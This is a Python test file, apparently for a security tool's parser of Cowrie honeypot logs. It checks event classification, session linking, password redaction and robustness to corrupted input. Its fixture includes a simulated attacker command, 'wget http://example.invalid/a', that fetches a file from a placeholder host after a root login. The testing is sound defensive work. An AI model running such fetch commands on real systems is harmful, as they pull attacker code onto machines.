"""What a honeypot saw."""

import json
from collections.abc import Callable
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from hauberk.events import EventClass, EventGroup, LogKey
from hauberk.ingest.formats.cowrie import Cowrie

from .accounting import mangled, parsed_whole

ABOUT = {"timestamp": "2024-01-02T03:04:05.000001Z", "sensor": "trap", "session": "s1",
         "src_ip": "192.0.2.7"}  # fmt: skip
DATA = b"".join(
    json.dumps({**ABOUT, **more}).encode() + b"\n"
    for more in (
        {"eventid": "cowrie.session.connect", "src_port": 4000, "dst_ip": "10.0.0.2",
         "dst_port": 2222, "protocol": "ssh"},
        {"eventid": "cowrie.login.failed", "username": "root", "password": "hunter2",
         "message": "login attempt [root/hunter2] failed"},
        {"eventid": "cowrie.login.success", "username": "root", "password": "x"},
        {"eventid": "cowrie.command.input", "input": "wget http://example.invalid/a"},
        {"eventid": "cowrie.session.file_download", "shasum": "ab", "outfile": "dl/ab"},
        {"eventid": "cowrie.session.closed", "duration": 2.5},
        {"eventid": "cowrie.client.version", "message": "Remote SSH version: x"},
    )
)  # fmt: skip


def groups() -> dict[str, EventGroup]:
    return {p.group.key.event_code: p.group for p in parsed_whole(Cowrie(), DATA).groups}


def test_each_kind_becomes_its_class() -> None:
    assert Cowrie().sniff(DATA, None) > 0.9
    found = groups()
    assert {code.removeprefix("cowrie."): group.event_class for code, group in found.items()} == {
        "session.connect": EventClass.NETWORK_ACTIVITY,
        "login.failed": EventClass.AUTHENTICATION,
        "login.success": EventClass.AUTHENTICATION,
        "command.input": EventClass.PROCESS_ACTIVITY,
        "session.file_download": EventClass.FILE_ACTIVITY,
        "session.closed": EventClass.NETWORK_ACTIVITY,
        "client.version": EventClass.BASE_EVENT,
    }
    assert found["cowrie.command.input"].key == LogKey("cowrie", "", "cowrie.command.input")


def test_a_session_is_told_by_its_id_from_connect_to_command() -> None:
    found = groups()
    assert found["cowrie.session.connect"].events["connection_info.uid"].to_list() == ["s1"]
    assert found["cowrie.login.success"].events["session.uid"].to_list() == ["s1"]
    assert found["cowrie.command.input"].events["actor.session.uid"].to_list() == ["s1"]
    assert found["cowrie.command.input"].events["process.cmd_line"][0].startswith("wget ")
    assert found["cowrie.login.failed"].events["status_id"].to_list() == [2]
    assert found["cowrie.login.success"].events["status_id"].to_list() == [1]
    assert found["cowrie.session.closed"].events["duration"].to_list() == [2.5]


def test_passwords_tried_do_not_reach_the_shared_columns() -> None:
    failed = groups()["cowrie.login.failed"].events
    assert "hunter2" not in str(failed.row(0))


@settings(max_examples=100, deadline=None)
@given(st.integers(0, 10**9))
def test_mangled_files_never_raise_and_every_record_is_accounted_for(seed: int) -> None:
    parsed_whole(Cowrie(), mangled(DATA, seed))


def test_real_captures_are_read_whole(shared_data: Callable[[str], Path]) -> None:
    for file in sorted(shared_data("cowrie-2018a").rglob("cowrie.json.*"))[5:8]:
        data = file.read_bytes()
        assert Cowrie().sniff(data[: 64 << 10], None) > 0.9
        parsed = parsed_whole(Cowrie(), data)
        assert parsed.events == parsed.records > 0
